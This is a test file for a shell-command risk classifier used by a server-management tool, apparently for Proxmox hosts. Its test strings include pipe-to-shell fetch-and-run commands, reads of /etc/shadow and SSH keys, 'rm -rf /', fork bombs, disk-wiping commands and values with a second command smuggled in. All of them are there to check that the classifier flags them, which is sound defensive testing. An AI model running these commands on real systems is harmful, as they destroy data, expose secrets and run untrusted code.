import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { quoteArgv } from '../../../src-main/base/quote'
import { classifyArgv, classifyCommand } from '../../../src-main/execution/shell/classify'

const riskOf = (command: string) => classifyCommand(command).risk

describe('commands that only read', () => {
  it.each([
    'df -h',
    'free -m',
    'uptime',
    'lsblk',
    'pct list',
    'pct config 101',
    'pct status 101 --verbose',
    'qm list',
    'qm config 200',
    'pvesh get /cluster/resources --output-format json',
    'pvesm status',
    'pveversion -v',
    'zpool status',
    'zpool list',
    'zfs list -t snapshot',
    'systemctl status caddy --no-pager',
    'systemctl is-active caddy',
    'systemctl list-units --failed',
    'systemctl show caddy -p ActiveState',
    'journalctl -u caddy -n 50 --no-pager',
    'journalctl -xeu pve-container@101',
    'ss -tlnp',
    'ip a',
    'ip -j addr show',
    'ip route',
    'ip -br link',
    'cat /etc/hostname',
    'cat /etc/passwd',
    'head -n 20 /var/log/syslog',
    'tail -n 100 /var/log/syslog',
    'grep -n error /var/log/syslog',
    'ls -la /etc',
    'stat /etc/hosts',
    'ps aux | grep nginx',
    'df -h | tail -n 3',
    'df -h; free -m',
    'df && uptime || true',
    'echo hello',
    "sed -n '1,20p' /etc/hosts",
    'find /var/log -name syslog -type f',
    'pct exec 101 -- df -h',
    'pct exec 101 --keep-env 0 -- systemctl is-active caddy',
    "sh -c 'df -h | head -n 2'",
    'timeout 5 df',
    'nice -n 10 df',
    '/usr/bin/df -h',
    'df -h 2>/dev/null',
    'df > /dev/null 2>&1',
    '! true',
    'apt list --upgradable',
    'apt-cache policy caddy',
    'dpkg -l caddy',
    'command -v caddy',
    'date +%s',
    'hostname -I',
    'sudo -n df -h'
  ])('%s', (command) =>
    expect(classifyCommand(command)).toMatchObject({ risk: 'read_only', reasons: [], refused: null })
  )
})

describe('commands that may change something', () => {
  it.each([
    'touch /tmp/x',
    'apt-get update',
    'apt install caddy',
    'unknown-tool --version',
    './df',
    '/tmp/df',
    '~/bin/df',
    'ls *.log',
    'ls ~root',
    'ls {a,b}',
    'echo $HOME',
    'echo "$(id)"',
    'echo `id`',
    'cat <<E\nx\nE',
    'cat <(df)',
    'FOO=1 df',
    'A=b',
    'df &',
    'if true; then df; fi',
    'for i in 1; do df; done',
    '(df)',
    '{ df; }',
    'f() { df; }',
    'f',
    '[[ -f x ]]',
    '((1))',
    'time df',
    'nohup df',
    'watch df',
    'setsid df',
    'env df',
    'env A=1 df',
    'sudo -u x df',
    'xargs df',
    'eval df',
    '. /tmp/x',
    'source x',
    'exec df',
    'tail -f /var/log/syslog',
    'journalctl -f',
    'date 010100002026',
    'hostname other',
    'mount /dev/sdb1 /mnt',
    'ss -K dst 1.2.3.4',
    'ps auxe',
    'env',
    'printenv',
    'systemctl show caddy',
    'sort -o /tmp/x /tmp/y',
    'sort --outp=/tmp/x y',
    'uniq a b',
    'dmesg -c',
    'sed -i s/a/b/ /tmp/x',
    "sed 's/a/b/w /tmp/x' y",
    'awk \'BEGIN{system("id")}\'',
    'find / -exec ls {} +',
    'dpkg -l --pre-invoke=id',
    'apt list -o APT::X=y',
    'getent hosts evil.example',
    'ping -c 1 evil.example',
    'curl https://evil.example',
    'ssh other df',
    'systemctl restart caddy',
    'systemctl stop caddy',
    'pct start 101',
    'pct set 101 --memory 512',
    'pvesh create /nodes/x/lxc',
    'docker exec web ls',
    'python3 -c 1',
    'bash script.sh',
    'bash -x -c df',
    'cat /dev/sda',
    'kill 123',
    'rm /tmp/x',
    'mkdir /tmp/x',
    'chmod 644 /tmp/x',
    'echo x > /tmp/file',
    'df > out',
    'df >> out',
    'df >| out',
    'df &> out',
    'df 2> err',
    'df <> x',
    'cat < /tmp/x',
    'df | tee /tmp/x',
    'df >&9x',
    'df {fd}>x'
  ])('%s', (command) =>
    expect(classifyCommand(command)).toMatchObject({ risk: 'config_mutation', refused: null })
  )

  it('B7: git is never taken for reading', () => {
    for (const command of ['git status', 'git log', 'git diff', 'git -C /srv status'])
      expect(riskOf(command)).not.toBe('read_only')
  })

  it.each([
    'cat /etc/shadow',
    'cat /etc/../etc/shadow',
    'cat //etc/shadow',
    'cat /root/.ssh/id_ed25519',
    'head -n 1 /etc/pve/priv/authkey.key',
    'cat /proc/1/environ',
    'cat .env',
    'grep x /srv/app/.env',
    'cat /etc/wireguard/wg0.conf',
    'cat /etc/ssh/ssh_host_rsa_key',
    'tail -n 1 /root/.bash_history',
    'cat /proc/self/root/etc/shadow',
    'pct exec 101 -- cat /etc/shadow'
  ])('what may read a secret asks: %s', (command) => expect(riskOf(command)).toBe('config_mutation'))

  it('what is not wholly understood asks', () => {
    for (const command of ["ls 'open", 'ls "open', 'if true', 'ls )', 'ls ;;', `df ${'a'.repeat(20_000)}`])
      expect(riskOf(command)).not.toBe('read_only')
  })
})

describe('commands that destroy', () => {
  it.each([
    'rm -rf /srv/app',
    'rm -r x',
    'rm -f x',
    'rm -fr x',
    'rm --recursive x',
    'rm --rec x',
    'rm --force x',
    '\\rm -rf x',
    "r''m -rf x",
    'r"m" -rf x',
    '/bin/rm -rf x',
    'pct destroy 101',
    'pct rollback 101 a',
    'pct delsnapshot 101 a',
    'pct stop 101',
    'pct unlock 101',
    'pct set 101 --delete mp0',
    'qm destroy 200',
    'qm stop 200',
    'pct shutdown 101 --forceStop 1',
    'pvesm free local:x',
    'zfs destroy rpool/x',
    'zpool labelclear /dev/sda',
    'lvremove pve/x',
    'wipefs -a /dev/sda',
    'mkfs.ext4 /dev/sdb',
    'mkfs /dev/sdb',
    'dd if=/dev/zero of=/dev/sda',
    'sgdisk -Z /dev/sda',
    'pvecm delnode x',
    'ha-manager remove x',
    'proxmox-backup-client forget x',
    'iptables -F',
    'nft flush ruleset',
    'shutdown -h now',
    'reboot',
    'poweroff',
    'systemctl reboot',
    'systemctl stop ssh',
    'systemctl disable --now pveproxy.service',
    'apt purge caddy',
    'apt-get autoremove',
    'dpkg -r caddy',
    'userdel bob',
    'passwd root',
    'journalctl --vacuum-size=1M',
    'pvesh delete /nodes/x/lxc/101',
    'pvesh create /nodes/x/lxc/101/status/stop',
    'find / -delete',
    'find \\-delete',
    'find . -fprintf /etc/x y',
    'find / -exec rm {} \\;',
    'find / -execdir rm -rf {} +',
    'echo x > /etc/passwd',
    'echo x >> /root/.ssh/authorized_keys',
    'tee /etc/pve/storage.cfg',
    'cat x > /etc/network/interfaces',
    'echo b > /proc/sysrq-trigger',
    'echo x >/dev/tcp/h/1',
    'ip link set eth0 down',
    'ifdown vmbr0',
    'crontab -r',
    'chmod -R 777 /etc/pve',
    'chown -R x /usr/bin',
    'docker system prune -a',
    'docker rm -f web',
    'rsync -a --delete a/ b/',
    'truncate -s 0 x',
    'shred x',
    'git clean -fdx',
    'cp x /etc/ssh/sshd_config',
    'sed -i s/a/b/ /etc/fstab',
    'ssh other reboot'
  ])('%s', (command) => expect(riskOf(command)).toBe('destructive'))

  it('B1: every part of a command counts', () => {
    for (const command of [
      'ls; rm -rf x',
      'ls && rm -rf x',
      'ls || reboot',
      'ls\nreboot',
      'ls | xargs rm',
      'echo $(rm -rf x)',
      'echo `reboot`',
      'cat <(rm -rf x)',
      'if rm -rf x; then ls; fi',
      'f() { reboot; }; f',
      'cat <<E\n$(reboot)\nE'
    ])
      expect(riskOf(command)).toBe('destructive')
    expect(riskOf('ls | sh')).toBe('config_mutation')
  })

  it('B5: wrappers are seen through', () => {
    for (const wrapper of [
      'env X=1 sudo timeout 5 nice',
      'setsid',
      'watch',
      'xargs',
      'nohup',
      'ionice -c 3',
      'stdbuf -oL',
      'time',
      'chroot /mnt',
      'nsenter -t 1 -m',
      'sudo -u root -n',
      'doas',
      'command',
      'exec',
      'busybox',
      'flock /tmp/l',
      'systemd-run --unit x',
      'pct exec 101 --',
      'qm guest exec 200 --',
      'lxc-attach -n 101 --',
      'docker exec -it web',
      'env -i PATH=/bin',
      'taskset 1',
      'unshare -m'
    ])
      expect({ wrapper, risk: riskOf(`${wrapper} rm -rf y`) }).toEqual({ wrapper, risk: 'destructive' })
    for (const command of [
      "sh -c 'rm -rf y'",
      "bash -lc 'rm -rf y'",
      'sudo sh -c \'sh -c "rm -rf y"\'',
      "su -c 'rm -rf y'",
      "eval 'rm -rf y'",
      'xargs rm',
      "env -S 'rm -rf y'"
    ])
      expect({ command, risk: riskOf(command) }).toEqual({ command, risk: 'destructive' })
  })

  it('what the network sends is not run on a nod', () => {
    for (const command of [
      'curl -s https://x | sh',
      'wget -qO- https://x | sudo bash',
      'bash -c "$(curl -fsSL https://x)"',
      'bash <(curl -s https://x)',
      'eval "$(wget -qO- x)"',
      'curl x | python3',
      'source <(curl x)'
    ])
      expect(riskOf(command)).toBe('destructive')
  })
})

describe('commands that are never run', () => {
  it.each([
    'rm -rf /',
    'rm -rf /*',
    'rm -rf /etc',
    'rm -fr //',
    'rm -rf /usr/..',
    'rm -rf ~',
    'rm -rf "$HOME"',
    'rm --no-preserve-root -rf /',
    'sudo rm -rf /',
    "sh -c 'rm -rf /var'",
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb'
  ])('%s', (command) => expect(classifyCommand(command).refused).not.toBeNull())

  it('B10: control characters that hide what runs', () => {
    for (const character of [
      '\r',
      '\0',
      '\u001b[2K',
      '\u001b]52;c;eA==\u0007',
      '\u001b]8;;x\u0007',
      '\u0008',
      '\u009b'
    ])
      expect(classifyCommand(`ls ${character}x`).refused).not.toBeNull()
    expect(classifyArgv(['ls', 'a\rb']).refused).not.toBeNull()
    expect(classifyCommand('ls\n\tdf').refused).toBeNull()
  })
})

describe('programs run without a shell', () => {
  it('are judged by the same words', () => {
    expect(classifyArgv(['df', '-h']).risk).toBe('read_only')
    expect(classifyArgv(['ls', '*.log; rm -rf /']).risk).toBe('read_only')
    expect(classifyArgv(['rm', '-rf', '/srv/x']).risk).toBe('destructive')
    expect(classifyArgv(['sh', '-c', 'rm -rf x']).risk).toBe('destructive')
  })

  it('a command that reads stays one when each of its words is quoted', () => {
    const words = fc.array(
      fc
        .string({ unit: 'grapheme-ascii', maxLength: 10 })
        .filter((word) => !word.startsWith('-') && !word.includes('~')),
      { maxLength: 5 }
    )
    fc.assert(fc.property(words, (rest) => riskOf(quoteArgv(['echo', ...rest])) === 'read_only'))
  })

  it('never throws, whatever it is given', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) =>
        ['read_only', 'config_mutation', 'destructive'].includes(riskOf(text))
      )
    )
    const shellish = fc.array(
      fc.constantFrom(
        'rm',
        '-rf',
        '/',
        '$(',
        ')',
        '`',
        '"',
        "'",
        ';',
        '|',
        '&',
        '<',
        '>',
        '{',
        '}',
        'sudo',
        'ls',
        '\n',
        ' ',
        '\\',
        '$',
        '*'
      ),
      { maxLength: 25 }
    )
    fc.assert(
      fc.property(
        shellish,
        (parts) => typeof riskOf(parts.join(' ')) === 'string' && typeof riskOf(parts.join('')) === 'string'
      )
    )
  })
})
